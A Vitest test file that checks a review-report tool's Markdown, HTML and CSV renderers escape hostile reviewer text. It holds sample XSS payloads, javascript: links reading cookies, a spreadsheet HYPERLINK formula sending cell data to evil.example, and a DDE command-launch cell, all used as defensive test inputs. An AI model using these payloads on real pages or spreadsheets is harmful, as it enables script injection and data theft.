/**
 * Review text is written by strangers: every renderer must show it as text. A report of the demo's
 * reviews is built, then reviewer-written places in it (quotes, phrases, aspect and theme names)
 * and the config's names are given hostile text, and every format is checked.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildReport } from '../build-report.js';
import { demoRows } from '../personas/fixture-rows.js';
import { renderBrandsCsv, renderDocumentsCsv, renderKeyDriversCsv, renderPersonasCsv, renderThemesCsv } from './csv.js';
import { REPORT_CSVS } from './report-files.js';
import { renderHtml } from './html.js';
import { renderMarkdown } from './markdown.js';

const SCRIPT = '<script>alert("x")</script>';
const LINK = '[Claim your prize](javascript:alert(1))';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('hostile text in a report', () => {
  const { rows } = demoRows();
  const brands = [...new Set(rows.map((r) => r.doc.brand!))].map((id) => ({
    id,
    name: `${id} <b>Co</b> & "Sons"`,
    own: id === 'copperleaf',
    products: [],
  }));
  const { report } = buildReport({
    project: { project: `demo ${SCRIPT}`, brands, sources: [], personas: { maxPersonas: 8, minSize: 5, minShare: 0.03, showNames: false } },
    rows,
    runs: [],
    now: '2026-01-01T00:00:00Z',
    personaSetId: 'set-hostile',
  });
  expect(report.personas.length).toBeGreaterThan(2);
  const p = report.personas[0]!;
  p.label = `${FORMULA} buyers`;
  p.quotes[0]!.text = `${SCRIPT} Boils fast.`;
  p.quotes[1]!.text = `${LINK} **very** loud.`;
  p.quotes[2]!.url = 'javascript:alert(document.cookie)//';
  report.brands[0]!.topPositive.unshift({ phrase: `<img src=x onerror=alert(1)>`, count: 9 });
  if (report.themes.themes[0]) report.themes.themes[0].label = `${LINK} theme`;
  rows[0]!.doc.body = `${FORMULA} Leaks at the spout.`;

  it('Markdown: no tag, no link, no emphasis from their text; the source link only for web addresses', () => {
    const md = renderMarkdown(report);
    expect(md).not.toContain('<script>');
    expect(md).not.toContain('<img');
    expect(md).not.toContain('<b>Co</b>');
    expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(md).not.toMatch(/\]\(<javascript:/);
    expect(md).not.toContain('**very**');
    expect(md).toContain('&lt;script&gt;alert("x")&lt;/script&gt; Boils fast.');
    expect(md).toContain('\\[Claim your prize\\](javascript:alert(1)) \\*\\*very\\*\\* loud.');
    expect(md).toContain('source: javascript:alert(document.cookie)//');
    expect(md).toMatch(/\(\[source\]\(<http:\/\/127\.0\.0\.1:\d+\/products\/[\w-]+>\), [0-9a-f]+\)/);
  });

  it('HTML: everything escaped, and no link that runs script', () => {
    const html = renderHtml(report);
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
    expect(html).not.toMatch(/href="javascript:/i);
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain('source: javascript:alert(document.cookie)//');
  });

  it('CSV: a cell that would start a spreadsheet formula starts with an apostrophe', () => {
    const personas = parse(renderPersonasCsv(report), { columns: true }) as Record<string, string>[];
    expect(personas[0]!.label).toBe(`'${FORMULA} buyers`);
    const documents = parse(renderDocumentsCsv(report, rows), { columns: true }) as Record<string, string>[];
    expect(documents.find((d) => d.id === rows[0]!.doc._id)!.body).toBe(`'${FORMULA} Leaks at the spout.`);
    expect(documents.filter((d) => /^[=+@-]/.test(d.body!) || /^[=+@-]/.test(d.title ?? ''))).toEqual([]);
  });

  it('CSV: brand, phrase, aspect and theme names in brands.csv, themes.csv and key-drivers.csv stay text', () => {
    const r = structuredClone(report);
    const b = r.brands[0]!;
    b.name = '@SUM(1+1)*cmd|" /C calc"!A0';
    b.topNegative.unshift({ phrase: '-2+3', count: 4 });
    b.aspects[0]!.aspect = '+cmd';
    const theme = r.themes.themes[1]!;
    theme.label = FORMULA;
    theme.terms = ['=1+1', ...theme.terms];
    r.matrix.aspects[0] = FORMULA;

    const brands = parse(renderBrandsCsv(r), { columns: true }) as Record<string, string>[];
    const brandRow = brands.find((x) => x.kind === 'brand' && x.id === b.id)!;
    expect(brandRow.name).toBe(`'${b.name}`);
    expect(brandRow.top_negative).toMatch(/^'-2\+3 \(4\); /);
    expect(brandRow.aspects).toMatch(/^'\+cmd:/);
    const themes = (parse(renderThemesCsv(r), { columns: true }) as Record<string, string>[]).filter((x) => x.theme_key === theme.key);
    expect(themes.length).toBeGreaterThan(1);
    for (const x of themes) {
      expect(x.theme).toBe(`'${FORMULA}`);
      expect(x.terms).toMatch(/^'=1\+1; /);
    }
    expect(themes.filter((x) => x.scope === 'brand' && x.brand_id === b.id).map((x) => x.scope_name)).toEqual([`'${b.name}`]);
    const drivers = parse(renderKeyDriversCsv(r), { columns: true }) as Record<string, string>[];
    expect(drivers.filter((x) => x.aspect === `'${FORMULA}`)).toHaveLength(r.matrix.rows.length);
    expect(drivers.find((x) => x.brand_id === b.id)!.brand).toBe(`'${b.name}`);

    // No text cell of any report CSV starts a formula; negative numbers stay numbers.
    let negatives = 0;
    for (const [name, render] of Object.entries(REPORT_CSVS)) {
      for (const row of parse(render(r)) as string[][]) {
        for (const cell of row) {
          if (/^-\d+(\.\d+)?(e-?\d+)?$/.test(cell)) negatives++;
          else expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
    expect(negatives).toBeGreaterThan(0);
  });
});
